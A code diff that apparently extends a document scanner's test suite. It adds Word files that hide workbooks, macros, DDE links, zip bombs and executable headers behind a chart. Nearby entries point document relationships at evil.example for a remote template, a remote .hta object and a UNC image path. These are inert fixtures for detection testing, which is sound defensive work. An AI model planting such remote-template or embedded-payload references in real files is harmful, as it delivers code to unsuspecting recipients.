@@ -157,6 +157,20 @@ def _entities() -> bytes:
     return packed([*parts, ("_rels/.rels", laughs + b"]><a>&j;</a>")])
 
 
+def _behind(workbook: bytes) -> Callable[[], bytes]:
+    """A letter with a chart as Word writes it: drawing, chart, and the workbook that the chart came from."""
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/package"
+    target = "../embeddings/Microsoft_Excel_Worksheet.xlsx"
+    link = f'<Relationship Id="rId1" Type="{kind}" Target="{target}"/>'
+    related = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{link}</Relationships>'
+    return lambda: office(
+        "docx",
+        ("word/charts/chart1.xml", b"<c:chartSpace xmlns:c='urn:c'/>"),
+        ("word/charts/_rels/chart1.xml.rels", related.encode()),
+        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", workbook),
+    )
+
+
 def _stated(types: str) -> Callable[[], bytes]:
     return lambda: office("docx", types=types)
 
@@ -243,7 +257,17 @@ HOSTILE: list[Hostile] = [
     Hostile("ActiveX control", "letter.docx", _part("word/activeX/activeX1.xml", b"<a/>"), "office_macro"),
     Hostile("OLE object", "letter.docx", _part("word/embeddings/oleObject1.bin", OLE), "office_embedded"),
     Hostile("program inside", "letter.docx", _part("word/media/image1.png", b"MZ\x90\0" + bytes(900)), "office_embedded"),
-    Hostile("workbook inside", "letter.docx", lambda: office("docx", ("word/embeddings/a.xlsx", office("xlsx"))), "office_embedded"),
+    Hostile("workbook behind a chart", "letter.docx", _behind(office("xlsx")), None),
+    Hostile("workbook behind a workbook behind a chart", "letter.docx", _behind(
+        office("xlsx", ("xl/embeddings/a.xlsx", office("xlsx")))), "office_embedded"),
+    Hostile("workbook with macros behind a chart", "letter.docx", _behind(
+        office("xlsx", ("xl/media/a.png", os.urandom(9000)), ("xl/vbaProject.bin", OLE))), "office_macro"),
+    Hostile("workbook with a DDE link behind a chart", "letter.docx", _behind(
+        office("xlsx", ("xl/externalLinks/externalLink1.xml", DDE))), "office_external"),
+    Hostile("bomb behind a chart", "letter.docx", _behind(_many_small_bombs()), "zip_bomb"),
+    Hostile("program behind a chart", "letter.docx", _behind(b"MZ" + bytes(900)), "file_two_kinds"),
+    Hostile("more behind charts than is taken", "letter.docx", _behind(os.urandom(17 * 1024 * 1024)), "office_embedded"),
+    Hostile("workbook in another place", "letter.docx", _part("word/media/a.xlsx", office("xlsx")), "office_embedded"),
     Hostile("template from elsewhere", "letter.docx", _rels("attachedTemplate", "http://evil.example/t.dotm"), "office_external"),
     Hostile("OLE object from elsewhere", "letter.docx", _rels("oleObject", "http://evil.example/a.hta"), "office_external"),
     Hostile("picture from elsewhere", "letter.docx", _rels("image", "\\\\evil.example\\a.png"), "office_external"),
